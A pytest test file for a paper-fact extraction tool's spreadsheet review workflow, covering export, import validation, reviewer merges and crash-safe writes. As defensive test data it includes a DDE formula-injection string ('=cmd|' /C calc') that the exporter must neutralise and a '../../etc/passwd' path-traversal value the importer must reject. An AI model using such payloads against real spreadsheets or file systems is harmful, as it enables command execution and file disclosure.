"""Review workflow: export → spreadsheet edits → import → re-extract; validation; atomicity."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from flopmine import review
from flopmine.config import Home, resolve_home
from flopmine.errors import ReviewError
from flopmine.review import annotations as ann
from flopmine.review.decision import LEDGER_COLUMNS, REVIEW_COLUMNS
from flopmine.review.export import SLOT_COLUMNS
from flopmine.store import connect, replace_candidates
from flopmine.types import ANNOTATION_COLUMNS, FIELDS, Candidate, Fact
from tests.support.annotation_files import (
    fact_file,
    fact_name,
    import_killed_after,
    ledger_file,
    ledger_name,
    ledger_rows,
)
from tests.support.review_papers import DENSENET, RESNET, densenet_candidates, extract, resnet_candidates

REPO = Path(__file__).resolve().parent.parent


# ---------------------------------------------------------------- fixtures (``db``: tests/conftest.py)


def cid(c: Candidate) -> str:
    return c.candidate_id


R = resnet_candidates()
D = densenet_candidates()
ERR1, ERR2, FLOPS, EPOCHS, HW = R
C10_ERR, C10_PARAMS = D


def write_sheet(path: Path, rows: list[dict[str, object]], *, columns: list[str] | None = None,
                crlf: bool = True, bom: bool = True, quote_all: bool = False) -> Path:
    """Write rows the way a spreadsheet saves them."""
    cols = columns or list(REVIEW_COLUMNS)
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=cols, extrasaction="ignore", lineterminator="\r\n" if crlf else "\n",
                       quoting=csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL)
    w.writeheader()
    for r in rows:
        w.writerow({k: r.get(k, "") for k in cols})
    path.write_bytes((("\ufeff" if bom else "") + buf.getvalue()).encode("utf-8"))
    return path


def row_for(c: Candidate, **edits: object) -> dict[str, object]:
    """A review row of candidate ``c`` as export writes it, with the reviewer's edits."""
    base: dict[str, object] = {
        "candidate_id": c.candidate_id, "arxiv_id": c.arxiv_id, "version": c.version, "benchmark": c.benchmark,
        "model": c.model, "field": c.field, "value": review.decision.format_value(c.value), "unit": c.unit,
        "page": c.page, "snippet": c.snippet,
    }
    base.update(edits)
    return base


def shown(db: sqlite3.Connection, c: Candidate) -> str:
    """The ``exported_decision`` cell an export would write for ``c`` now (its recorded decision)."""
    from flopmine.review.decision import exported_state
    from flopmine.review.store import cached_decision

    return exported_state(cached_decision(db, c.candidate_id))


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def snapshot(directory: Path) -> dict[str, bytes]:
    return {str(p.relative_to(directory)): p.read_bytes() for p in sorted(directory.rglob("*")) if p.is_file()}


# ---------------------------------------------------------------- export


def test_export_writes_one_spreadsheet_safe_file_per_benchmark(db: sqlite3.Connection, home: Home) -> None:
    (home.pdf_dir).mkdir(parents=True, exist_ok=True)
    (home.pdf_dir / f"{RESNET}v1.pdf").write_bytes(b"%PDF-1.4 stub")
    report = review.export(db, home, home.root / "out")
    assert [p.name for p in report.files] == ["cifar10.csv", "imagenet.csv", "paper_facts.csv"]
    assert report.rows == 7 and report.pending == 7
    raw = (home.root / "out" / "imagenet.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = read_csv(home.root / "out" / "imagenet.csv")
    assert list(rows[0]) == [*REVIEW_COLUMNS, *SLOT_COLUMNS]
    # grouped by paper then field, the top-ranked first
    assert [(r["field"], r["rank"]) for r in rows] == [("flops", "1"), ("top1_err", "1"), ("top1_err", "2")]
    # formula-like PDF text is neutralised; numbers are not
    assert rows[2]["snippet"] == "'=cmd|' /C calc'!A0 19.38"
    assert rows[0]["value"] == "11300000000"
    # local PDF → file link; otherwise arXiv, both at the evidence page
    assert rows[0]["pdf_link"] == (home.pdf_dir / f"{RESNET}v1.pdf").as_uri() + "#page=5"
    c10 = read_csv(home.root / "out" / "cifar10.csv")
    assert c10[0]["pdf_link"] == f"https://arxiv.org/pdf/{DENSENET}v1#page=6"
    paper = read_csv(home.root / "out" / "paper_facts.csv")
    assert {r["field"] for r in paper} == {"epochs", "hardware"}
    assert next(r for r in paper if r["field"] == "epochs")["snippet"] == "'-- trained for 90 epochs"

    only = review.export(db, home, home.root / "only", benchmark="cifar10", bom=False)
    assert [p.name for p in only.files] == ["cifar10.csv"]
    assert not (home.root / "only" / "cifar10.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_old_style_ids_link_safely(home: Home) -> None:
    conn = connect(":memory:")
    c = Candidate("hep-th/9901001", 2, "params", 1e6, page=3)
    assert review.pdf_link(conn, home, c) == "https://arxiv.org/pdf/hep-th/9901001v2#page=3"
    home.pdf_dir.mkdir(parents=True)
    (home.pdf_dir / "hep-th_9901001v2.pdf").write_bytes(b"%PDF")
    assert review.pdf_link(conn, home, c).endswith("/pdfs/hep-th_9901001v2.pdf#page=3")


# ---------------------------------------------------------------- the round trip


def spreadsheet_edit(exported: Path, target: Path, decisions: dict[str, dict[str, str]],
                     extra_rows: list[dict[str, str]] | None = None) -> Path:
    """Edit an exported CSV as LibreOffice/Excel would save it: columns reordered, CRLF, BOM, all quoted."""
    rows = read_csv(exported)
    for r in rows:
        r.update(decisions.get(r["candidate_id"], {}))
    rows += extra_rows or []
    cols = list(reversed(REVIEW_COLUMNS))
    return write_sheet(target, rows, columns=cols, crlf=True, bom=True, quote_all=True)


def test_round_trip_survives_spreadsheets_and_re_extraction(db: sqlite3.Connection, home: Home,
                                                            tmp_path: Path) -> None:
    out = tmp_path / "export"
    review.export(db, home, out)
    edited = spreadsheet_edit(out / "imagenet.csv", tmp_path / "imagenet-alice.csv", {
        cid(ERR1): {"decision": "correct", "corrected_value": "21.4", "note": "Table 3, single crop"},
        cid(ERR2): {"decision": "reject"},  # its snippet keeps the export's leading apostrophe
        cid(FLOPS): {"decision": "accept"},
    }, extra_rows=[{"decision": "add", "arxiv_id": RESNET, "benchmark": "imagenet", "model": "ResNet-50",
                    "field": "top1_err", "value": "22.85", "page": "7", "note": "=missed by rules"}])
    paper = spreadsheet_edit(out / "paper_facts.csv", tmp_path / "paper-alice.csv", {
        cid(EPOCHS): {"decision": "Accept "}, cid(HW): {"decision": "accept"}})
    result = review.import_files(db, home, [edited, paper], reviewer="alice")
    assert result.problems == ()
    assert result.report is not None
    assert result.report.counts() == {"accept": 3, "reject": 1, "correct": 1, "add": 1}

    ann_dir = home.annotations_dir
    assert sorted(p.name for p in ann_dir.glob("*.csv")) == [fact_name("imagenet", RESNET), fact_name("", RESNET)]
    text = fact_file(ann_dir, "imagenet", RESNET).read_text(encoding="utf-8")
    assert text.splitlines()[0] == ",".join(ANNOTATION_COLUMNS) and "\r" not in text
    facts = [Fact.from_row(r) for r in read_csv(fact_file(ann_dir, "imagenet", RESNET))]
    assert [(f.model, f.field, f.value, f.decision) for f in facts] == [
        ("ResNet-152", "flops", 11.3e9, "accept"),
        ("ResNet-152", "top1_err", 21.4, "correct"),  # the corrected value, not 21.43
        ("ResNet-50", "top1_err", 22.85, "add"),
    ]
    assert all(f.reviewer == "alice" and f.decided_at.endswith("Z") for f in facts)
    assert facts[1].candidate_id == cid(ERR1) and facts[1].note == "Table 3, single crop"
    assert facts[2].note == "=missed by rules" and facts[2].candidate_id == "" and facts[2].version == 1
    assert {f.field for f in review.load_facts(ann_dir)} == {"flops", "top1_err", "epochs", "hardware"}
    ledger = ledger_rows(ann_dir)
    assert list(ledger[0]) == list(LEDGER_COLUMNS)
    assert {r["decision"] for r in ledger} == {"accept", "reject", "correct", "add"}  # the reject is durable

    # re-importing the same files changes nothing, byte for byte
    before = snapshot(ann_dir)
    again = review.import_files(db, home, [edited, paper], reviewer="bob")
    assert again.report is not None and again.report.applied == () and len(again.report.unchanged) == 5 + 1
    assert snapshot(ann_dir) == before

    # a decided export comes back prefilled
    review.export(db, home, out)
    pre = {r["candidate_id"]: r for r in read_csv(out / "imagenet.csv")}
    assert (pre[cid(ERR1)]["decision"], pre[cid(ERR1)]["corrected_value"]) == ("correct", "21.4")
    assert review.export(db, home, tmp_path / "pending", pending_only=True).rows == 2  # cifar10 only

    # re-extraction with new rules: ERR2 (rejected) disappears, a new candidate appears
    new_rule = Candidate(RESNET, 1, "params", 60.2e6, benchmark="imagenet", model="ResNet-152", page=5)
    extract(db, RESNET, 1, [ERR1, FLOPS, EPOCHS, HW, new_rule], "imagenet")
    st = review.status(db, home)
    assert [(o.decision.candidate_id, o.reason) for o in st.orphans] == [
        (cid(ERR2), "candidate no longer extracted (rules changed)")]
    assert st.pending == 1 + 2  # the new params candidate + cifar10
    assert snapshot(ann_dir) == before

    # a new paper version: the same facts carry over; a changed value is pending; v1-only facts orphaned
    v2 = [Candidate(RESNET, 2, c.field, c.value, benchmark=c.benchmark, model=c.model, unit=c.unit, page=c.page + 1,
                    rank=c.rank) for c in (ERR1, FLOPS, EPOCHS)]
    v2.append(Candidate(RESNET, 2, "hardware", "Tesla K40", page=4))
    extract(db, RESNET, 2, v2, "imagenet")
    st = review.status(db, home)
    by_field = {(f.benchmark, f.field): f for f in st.fields}
    assert by_field[("imagenet", "top1_err")].carried_over == 1
    assert by_field[("imagenet", "flops")].decided == 1
    assert by_field[("(paper)", "hardware")].pending == 1
    orphaned = {o.decision.candidate_id: o.reason for o in st.orphans}
    assert orphaned[cid(HW)] == "paper re-extracted as v2; this fact is not among its candidates"
    assert cid(ERR2) in orphaned
    assert f"{RESNET}v2" in st.papers_incomplete

    # the v2 export is prefilled with carried-over decisions; importing it back is a no-op
    review.export(db, home, out)
    rows = read_csv(out / "imagenet.csv")
    err = next(r for r in rows if r["field"] == "top1_err")
    assert (err["decision"], err["corrected_value"], err["version"]) == ("correct", "21.4", "2")
    assert review.import_files(db, home, [out / "imagenet.csv"]).report.applied == ()  # type: ignore[union-attr]
    assert snapshot(ann_dir) == before

    # deciding the new version's fact (in the export that showed it) replaces the old version's decision
    sheet = write_sheet(tmp_path / "v2.csv", [{**err, "decision": "accept", "corrected_value": ""}], columns=list(err))
    rep = review.import_files(db, home, [sheet]).report
    assert rep is not None and [d.candidate_id for d in rep.superseded] == [cid(ERR1)]
    imagenet = [Fact.from_row(r) for r in read_csv(fact_file(ann_dir, "imagenet", RESNET))]
    assert [(f.version, f.value, f.decision) for f in imagenet if f.field == "top1_err"] == [
        (1, 22.85, "add"), (2, 21.43, "accept")]

    # the store is a cache: delete it, re-extract, and every decision is back
    db.close()
    for p in home.root.glob("flopmine.sqlite*"):
        p.unlink()
    conn = connect(home.db_path)
    try:
        extract(conn, RESNET, 2, v2, "imagenet")
        extract(conn, DENSENET, 1, densenet_candidates(), "cifar10")
        st2 = review.status(conn, home)
        assert st2.decided == st.decided and st2.pending == st.pending
        assert {o.decision.candidate_id for o in st2.orphans} == {cid(ERR2), cid(HW)}
    finally:
        conn.close()


def test_rejections_survive_a_rebuilt_store(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    review.import_files(db, home, [write_sheet(tmp_path / "r.csv", [row_for(C10_ERR, decision="reject")])])
    assert not fact_file(home.annotations_dir, "cifar10", DENSENET).exists()  # no fact for a reject
    conn = connect(tmp_path / "fresh.sqlite")
    extract(conn, DENSENET, 1, densenet_candidates(), "cifar10")
    pairs, _ = review.attach(review.active_candidates(conn), review.sync(conn, home))
    attached = {a.candidate.candidate_id: a.decision for a in pairs}
    assert attached[cid(C10_ERR)] is not None and attached[cid(C10_ERR)].decision == "reject"
    assert attached[cid(C10_PARAMS)] is None
    conn.close()


def test_hand_added_fact_rows_are_kept(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    home.annotations_dir.mkdir(parents=True)
    hand = Fact(DENSENET, 1, "flops", 2.9e10, benchmark="cifar10", model="DenseNet-BC", page=6,
                decision="add", reviewer="carol", note="from the appendix")
    (home.annotations_dir / "cifar10.csv").write_text(
        ",".join(ANNOTATION_COLUMNS) + "\n" + ",".join(str(hand.to_row()[c]) for c in ANNOTATION_COLUMNS) + "\n")
    review.import_files(db, home, [write_sheet(tmp_path / "a.csv", [row_for(C10_ERR, decision="accept")])])
    facts = [Fact.from_row(r) for r in read_csv(fact_file(home.annotations_dir, "cifar10", DENSENET))]
    assert sorted((f.field, f.decision) for f in facts) == [("err", "accept"), ("flops", "add")]
    assert review.status(db, home).added == 1


# ---------------------------------------------------------------- validation


def problems_of(db: sqlite3.Connection, home: Home, *paths: Path) -> list[str]:
    with pytest.raises(ReviewError) as e:
        review.import_files(db, home, list(paths))
    assert "nothing was applied" in str(e.value)
    assert not home.annotations_dir.exists() or not list(home.annotations_dir.rglob("*.csv"))
    return e.value.problems


@pytest.mark.parametrize(("row", "expected"), [
    (row_for(ERR1, candidate_id="c0000000000000000", decision="accept"),
     "2: candidate_id: unknown candidate id 'c0000000000000000'"),
    (row_for(ERR1, decision="acept"), "2: decision: unknown decision 'acept'; use one of accept, reject, correct, add"),
    (row_for(ERR1, decision="correct"), "2: corrected_value: required for decision 'correct'"),
    (row_for(ERR1, decision="correct", corrected_value="n/a"),
     "2: corrected_value: not a number: 'n/a' (use a dot for decimals and no thousands separators) (top1_err is numeric)"),
    (row_for(ERR1, decision="correct", corrected_value="76,3"), "2: corrected_value: not a number: '76,3'"),
    (row_for(ERR1, decision="correct", corrected_value="101"),
     "2: corrected_value: out of range: 101 > 100 (the largest valid top1_err)"),
    (row_for(C10_PARAMS, decision="correct", corrected_value="-5"),
     "2: corrected_value: out of range: -5 < 0 (params cannot be smaller)"),
    (row_for(ERR1, decision="accept", corrected_value="20"),
     "2: corrected_value: only used with decision 'correct' (this row says 'accept')"),
    (row_for(ERR1, decision="", corrected_value="20"), "2: decision: empty, but corrected_value is filled"),
    (row_for(ERR1, decision="accept", value="12.0"),
     "2: value: read-only column changed (the candidate has '21.43', the file has '12.0'); use decision 'correct'"),
    (row_for(ERR1, decision="reject", model="ResNet-50"),
     "2: model: a rejected candidate is not retargeted; restore the cell, or write 'correct' to move its fact"),
    (row_for(ERR1, decision="reject", field="top5_err"), "2: field: a rejected candidate is not retargeted"),
    (row_for(ERR1, decision="correct", field="top9_err"), "2: field: unknown field 'top9_err'"),
    (row_for(ERR1, decision="correct", benchmark="imagenett"), "2: benchmark: unknown benchmark 'imagenett'"),
    (row_for(ERR1, decision="correct", field="flops"),
     "2: field: implausible: 21.43 is outside the plausible range of flops"),
    (row_for(ERR1, decision="correct", model="ResNet-50; ResNet-101"),
     "2: model: several models ('ResNet-50; ResNet-101') only for a paper-level fact"),
    (row_for(ERR1, decision="reject", arxiv_id="1512.03386"), "2: arxiv_id: read-only column changed"),
    (row_for(ERR1, decision="reject", page="9"), "2: page: read-only column changed"),
    ({"decision": "accept"}, "2: candidate_id: empty, and no extracted candidate has this arxiv_id, benchmark, "
                             "model, field and value (decision 'accept'; use 'add' for a fact the extractor missed)"),
    ({"decision": "accept", "arxiv_id": RESNET, "benchmark": "imagenet", "model": "ResNet-152",
      "field": "top1_err", "value": "21.5"}, "2: candidate_id: empty, and no extracted candidate has this"),
    ({"decision": "add", "arxiv_id": RESNET, "field": "params", "value": "1e6", "page": "3", "benchmark": "mnist"},
     "2: benchmark: unknown benchmark 'mnist'"),
    ({"decision": "add", "arxiv_id": RESNET, "field": "top1_acc", "value": "70", "page": "3"},
     "2: benchmark: required: top1_acc is a metric of a benchmark"),
    ({"decision": "add", "arxiv_id": "../../etc/passwd", "field": "params", "value": "1e6", "page": "3"},
     "2: arxiv_id: not an arXiv id: '../../etc/passwd'"),
    ({"decision": "add", "candidate_id": cid(ERR1), "arxiv_id": RESNET, "field": "params", "value": "1e6",
      "page": "3"}, "2: candidate_id: must be empty for decision 'add'"),
    ({"decision": "add", "arxiv_id": RESNET, "field": "params", "value": "1e6", "page": "p3"},
     "2: page: not a page number: 'p3'"),
])
def test_each_invalid_row_is_named(db: sqlite3.Connection, home: Home, tmp_path: Path, row: dict[str, object],
                                   expected: str) -> None:
    sheet = write_sheet(tmp_path / "bad.csv", [row])
    problems = problems_of(db, home, sheet)
    assert len(problems) == 1, problems
    assert problems[0].startswith(f"{sheet}:{expected}"), problems[0]


def test_add_rows_missing_required_columns(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    sheet = write_sheet(tmp_path / "add.csv", [{"decision": "add", "model": "ResNet-50"}])
    assert problems_of(db, home, sheet) == [
        f"{sheet}:2: arxiv_id: required for decision 'add'",
        f"{sheet}:2: field: required for decision 'add'",
        f"{sheet}:2: page: required for decision 'add' (the page where the fact is printed)",
        f"{sheet}:2: value: required for decision 'add'",
    ]


def test_all_problems_at_once_and_nothing_applied(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    sheet = write_sheet(tmp_path / "mixed.csv", [
        row_for(ERR1, decision="accept"),  # valid
        row_for(ERR2, decision="maybe"),
        row_for(FLOPS, decision="correct", corrected_value="lots"),
        row_for(C10_ERR, decision="accept"),  # valid
        row_for(C10_ERR, decision="reject"),  # duplicate, and a different ruling
    ])
    problems = problems_of(db, home, sheet)
    assert [p.split(": ")[0] for p in problems] == [f"{sheet}:3", f"{sheet}:4", f"{sheet}:6"]
    assert problems[2] == f"{sheet}:6: candidate_id: duplicate row for the same candidate (first on line 5)"

    # --partial applies the valid rows only (and not the ambiguous duplicate)
    result = review.import_files(db, home, [sheet], partial=True)
    assert len(result.problems) == 3
    assert result.report is not None and [d.candidate_id for d in result.report.applied] == [cid(ERR1)]


def test_file_level_problems(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    latin = tmp_path / "latin1.csv"
    latin.write_bytes("candidate_id,decision,note\r\nc1,accept,caf\xe9\r\n".encode("latin-1"))
    nocol = write_sheet(tmp_path / "nocol.csv", [{"candidate_id": cid(ERR1)}], columns=["candidate_id", "note"])
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    problems = problems_of(db, home, latin, nocol, empty, tmp_path / "missing.csv")
    assert problems == [
        f"{latin}:2: file: not UTF-8 text (byte 41); in a spreadsheet save as 'CSV UTF-8 (comma delimited)'",
        f"{nocol}:1: decision: required column missing (the header has: candidate_id, note)",
        f"{empty}:1: file: empty file: no header row",
        f"{tmp_path / 'missing.csv'}:1: file: cannot read the file: No such file or directory",
    ]


def test_spreadsheet_dialects_are_read(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    # semicolon-separated (European Excel), CR line ends, Excel ="…" text, formula apostrophe, arXiv id
    # with its trailing zero eaten by a number format, and a UTF-16 "Unicode text" file
    semi = tmp_path / "semi.csv"
    semi.write_bytes(("Decision;Candidate_ID;arxiv_id;Value;note\r"
                      f'accept;="{cid(ERR1)}";{RESNET.rstrip("0")};21.43;"\'=not a formula"\r').encode())
    utf16 = tmp_path / "utf16.txt"
    utf16.write_bytes(f"candidate_id\tdecision\tmodel\r\n{cid(C10_ERR)}\treject\tdensenet-bc \r\n".encode("utf-16"))
    result = review.import_files(db, home, [semi, utf16])
    assert result.report is not None
    got = {d.candidate_id: (d.decision, d.note) for d in result.report.applied}
    assert got == {cid(ERR1): ("accept", "=not a formula"), cid(C10_ERR): ("reject", "")}


def test_two_reviewers_merge_and_conflict(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    alice = write_sheet(tmp_path / "alice.csv", [
        row_for(ERR1, decision="accept", reviewer="alice"),
        row_for(FLOPS, decision="correct", corrected_value="11.3e9", reviewer="alice"),
        row_for(C10_ERR, decision="accept", reviewer="alice"),
    ])
    bob = write_sheet(tmp_path / "bob.csv", [
        row_for(C10_ERR, decision="reject", reviewer="bob"),
        row_for(ERR1, decision="accept", reviewer="bob", note="checked"),
        row_for(FLOPS, decision="correct", corrected_value="11300000000", reviewer="bob"),
    ], columns=list(reversed(REVIEW_COLUMNS)))
    problems = problems_of(db, home, alice, bob)
    assert problems == [
        f"{alice}:4: candidate_id: conflicts with {bob}:2 (accept here, reject there)",
        f"{bob}:2: candidate_id: conflicts with {alice}:4 (reject here, accept there)",
    ]
    result = review.import_files(db, home, [alice, bob], partial=True)
    assert result.report is not None
    merged = {d.candidate_id: d for d in result.report.applied}
    assert set(merged) == {cid(ERR1), cid(FLOPS)}
    assert merged[cid(ERR1)].reviewer == "alice; bob" and merged[cid(ERR1)].note == "checked"
    assert merged[cid(FLOPS)].corrected_value == 11.3e9


def test_validate_rows_serves_a_single_web_decision(db: sqlite3.Connection, home: Home) -> None:
    review.sync(db, home)
    decisions, problems = review.validate_rows([{"candidate_id": cid(EPOCHS), "decision": "correct",
                                                 "corrected_value": "100"}], db, "web", reviewer="dana")
    assert problems == []
    report = review.apply(db, home, decisions)
    assert report.files == (ledger_name(RESNET), fact_name("", RESNET))
    assert report.applied[0].reviewer == "dana"
    _, problems = review.validate_rows([{"candidate_id": cid(EPOCHS), "decision": "correct",
                                         "corrected_value": "-1"}], db, "web")
    assert [str(p) for p in problems] == ["web:2: corrected_value: out of range: -1 < 0 (epochs cannot be smaller)"]


def test_malformed_annotations_are_reported(db: sqlite3.Connection, home: Home) -> None:
    home.annotations_dir.mkdir(parents=True)
    (home.annotations_dir / "imagenet.csv").write_text(",".join(ANNOTATION_COLUMNS) + "\n"
                                                       f"{RESNET},1,imagenet,x,top1_err,abc,%,3,accept,,,,,\n")
    with pytest.raises(ReviewError) as e:
        review.status(db, home)
    assert e.value.problems == [f"{home.annotations_dir / 'imagenet.csv'}:2: value: could not convert string "
                                "to float: 'abc'"]
    (home.annotations_dir / "imagenet.csv").unlink()
    (home.annotations_dir / "paper_facts.csv").write_text(",".join(ANNOTATION_COLUMNS) + "\n"
                                                          f"{RESNET},1,,,gpu_count,8,,3,accept,,,,,\n")
    (home.annotations_dir / "decisions").mkdir()
    (home.annotations_dir / ann.LEGACY_LEDGER_FILE).write_text(",".join(LEDGER_COLUMNS) + "\n"
                                                       f"{RESNET},1,,,epochs,90,,3,maybe,,c1,,,,,\n")
    with pytest.raises(ReviewError) as e:
        review.status(db, home)
    assert "fix these rows first" in str(e.value)
    assert [p.split(": ", 1)[1] for p in e.value.problems] == [
        "decision: unknown decision 'maybe'", "field: unknown field 'gpu_count'; known: " + ", ".join(FIELDS)]


# ---------------------------------------------------------------- crash safety


def three_file_import(tmp_path: Path) -> Path:
    return write_sheet(tmp_path / "three.csv", [
        row_for(ERR1, decision="accept"), row_for(EPOCHS, decision="accept"), row_for(C10_ERR, decision="accept")])


def test_crash_after_the_first_rename_is_rolled_forward(db: sqlite3.Connection, home: Home, tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    renames: list[Path] = []

    def crash_after_one(src: Path, dst: Path) -> None:
        if renames:
            raise OSError("simulated crash")
        renames.append(dst)
        os.replace(src, dst)

    monkeypatch.setattr(ann, "_replace", crash_after_one)
    with pytest.raises(ReviewError, match="interrupted while renaming .* the next `flopmine review` command finishes"):
        review.import_files(db, home, [three_file_import(tmp_path)])
    # half-way on disk: one file renamed, journal still there
    assert (home.annotations_dir / ann.JOURNAL_FILE).exists() and len(renames) == 1
    monkeypatch.setattr(ann, "_replace", os.replace)
    st = review.status(db, home)  # any next command finishes the import
    assert st.decided == 3
    assert not (home.annotations_dir / ann.JOURNAL_FILE).exists()
    assert not list(home.annotations_dir.rglob(f"*{ann.TMP_SUFFIX}"))
    assert sorted(p.name for p in home.annotations_dir.glob("*.csv")) == [
        fact_name("cifar10", DENSENET), fact_name("imagenet", RESNET), fact_name("", RESNET)]
    assert len(ledger_rows(home.annotations_dir)) == 3


def test_failure_before_the_journal_applies_nothing(db: sqlite3.Connection, home: Home, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    review.import_files(db, home, [write_sheet(tmp_path / "first.csv", [row_for(FLOPS, decision="accept")])])
    before = snapshot(home.annotations_dir)

    real_open = open

    def full_disk_for_the_journal(file: object, *args: object, **kwargs: object) -> object:
        if ann.JOURNAL_FILE in str(file):
            raise OSError(28, "No space left on device")
        return real_open(file, *args, **kwargs)  # type: ignore[call-overload]

    monkeypatch.setattr("builtins.open", full_disk_for_the_journal)
    with pytest.raises(ReviewError, match=r"\(No space left on device\); nothing was applied"):
        review.import_files(db, home, [three_file_import(tmp_path)])
    monkeypatch.undo()
    assert snapshot(home.annotations_dir) == before  # no temporary file left either
    assert review.status(db, home).decided == 1


def test_staged_files_of_a_killed_import_are_discarded(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    review.import_files(db, home, [write_sheet(tmp_path / "first.csv", [row_for(FLOPS, decision="accept")])])
    before = snapshot(home.annotations_dir)
    # what a process killed while staging (before its journal) leaves behind
    (home.annotations_dir / f".imagenet.csv.0123456789ab{ann.TMP_SUFFIX}").write_text("half a fi")
    (home.annotations_dir / "decisions" / f".ledger.csv.0123456789ab{ann.TMP_SUFFIX}").write_text("")
    assert review.status(db, home).decided == 1
    assert snapshot(home.annotations_dir) == before


def test_killed_process_leaves_all_or_nothing(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    """A real crash: the importing process dies (os._exit) between two renames."""
    sheet = three_file_import(tmp_path)
    proc = import_killed_after(home.root, sheet, renames=1)
    assert proc.returncode == 9, proc.stderr
    assert (home.annotations_dir / ann.JOURNAL_FILE).exists()
    st = review.status(db, home)
    assert st.decided == 3 and len(ledger_rows(home.annotations_dir)) == 3
    assert not (home.annotations_dir / ann.JOURNAL_FILE).exists()


# ---------------------------------------------------------------- the extractor's queue, changes of mind


def test_import_accepts_the_extractors_queue(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    from flopmine.extract.queue import write_queue

    queue = tmp_path / "queue.csv"
    assert write_queue(db, queue) == 7
    rows = read_csv(queue)
    for r in rows:
        if r["candidate_id"] == cid(FLOPS):
            r.update(decision="correct", corrected_value="1.13e10", reviewer="erin")
        elif r["candidate_id"] == cid(HW):
            r.update(decision="accept")
    rows.append({"candidate_id": "c" + "f" * 16, "flags": "table,stale", "decision": "accept"})
    edited = write_sheet(tmp_path / "queue-edited.csv", rows, columns=list(rows[0]))
    problems = problems_of(db, home, edited)
    assert problems == [f"{edited}:9: candidate_id: candidate '{'c' + 'f' * 16}' is no longer extracted (the row "
                        "is flagged stale); use an 'add' row to keep its fact"]
    write_sheet(edited, rows[:-1], columns=list(rows[0]))
    result = review.import_files(db, home, [edited])
    assert result.report is not None and result.report.counts()["correct"] == 1
    assert {f.field: f.value for f in review.load_facts(home.annotations_dir)} == {"flops": 1.13e10,
                                                                                  "hardware": "Tesla K80"}


def test_a_changed_mind_replaces_the_fact(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    review.import_files(db, home, [write_sheet(tmp_path / "a.csv", [row_for(EPOCHS, decision="accept")])])
    assert [f.field for f in review.load_facts(home.annotations_dir)] == ["epochs"]
    rep = review.import_files(db, home, [write_sheet(tmp_path / "b.csv", [
        row_for(EPOCHS, decision="reject", exported_decision=shown(db, EPOCHS))])])
    assert rep.report is not None and rep.report.counts()["reject"] == 1
    assert review.load_facts(home.annotations_dir) == []
    ledger = ledger_rows(home.annotations_dir)
    assert [(r["candidate_id"], r["decision"]) for r in ledger] == [(cid(EPOCHS), "reject")]
    # a note-only edit is a change too; the same note again is not
    sheet = write_sheet(tmp_path / "c.csv", [row_for(EPOCHS, decision="reject", note="not the main run",
                                                     exported_decision=shown(db, EPOCHS))])
    assert len(review.import_files(db, home, [sheet]).report.applied) == 1  # type: ignore[union-attr]
    assert len(review.import_files(db, home, [sheet]).report.applied) == 0  # type: ignore[union-attr]


def test_export_refuses_the_annotations_directory(db: sqlite3.Connection, home: Home) -> None:
    with pytest.raises(ReviewError, match="refusing to export into the annotations directory"):
        review.export(db, home, home.annotations_dir)


def test_rows_without_candidate_id_name_their_fact(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
    """A bundled decisions file written before extraction ran names facts by content, not by id."""
    v2 = [Candidate(RESNET, 2, ERR1.field, ERR1.value, benchmark="imagenet", model="ResNet-152", page=9)]
    extract(db, RESNET, 2, v2, "imagenet")
    sheet = write_sheet(tmp_path / "bundled.csv", [
        {"arxiv_id": f"arXiv:{RESNET}", "benchmark": "ImageNet", "model": "resnet-152 ", "field": "top1_err",
         "value": "21.430", "page": "1", "decision": "accept"},
        {"arxiv_id": DENSENET, "benchmark": "cifar10", "model": "DenseNet-BC", "field": "params",
         "value": "2.56e7", "decision": "correct", "corrected_value": "25.6e6"},
    ], columns=["arxiv_id", "benchmark", "model", "field", "value", "page", "decision", "corrected_value"])
    result = review.import_files(db, home, [sheet])
    assert result.report is not None
    assert [(d.candidate_id, d.decision) for d in result.report.applied] == [
        (v2[0].candidate_id, "accept"), (cid(C10_PARAMS), "correct")]  # the newest version's candidate


def test_one_import_with_both_paper_versions_keeps_one_decision_per_fact(db: sqlite3.Connection, home: Home,
                                                                         tmp_path: Path) -> None:
    """The extractor's queue lists every version's candidates: the same fact decided on v1 and v2 is one fact."""
    v2 = Candidate(RESNET, 2, ERR1.field, ERR1.value, benchmark="imagenet", model="ResNet-152", page=7)
    extract(db, RESNET, 2, [v2], "imagenet")
    sheet = write_sheet(tmp_path / "both.csv", [row_for(ERR1, decision="accept"), row_for(v2, decision="accept")])
    result = review.import_files(db, home, [sheet])
    assert result.report is not None
    # the newest version's row wins; the v1 row is shadowed
    assert [d.candidate_id for d in result.report.applied] == [v2.candidate_id]
    assert [d.candidate_id for d in result.report.unchanged] == [cid(ERR1)]
    sheet = write_sheet(tmp_path / "both.csv", [row_for(ERR1, decision="reject"),
                                                row_for(v2, decision="correct", corrected_value="21.5",
                                                        exported_decision=shown(db, v2))])
    result = review.import_files(db, home, [sheet])
    assert result.report is not None and [d.candidate_id for d in result.report.applied] == [v2.candidate_id]
    again = review.import_files(db, home, [sheet]).report
    assert again is not None and again.applied == ()
    ledger = ledger_rows(home.annotations_dir)
    assert [r["candidate_id"] for r in ledger] == [v2.candidate_id]
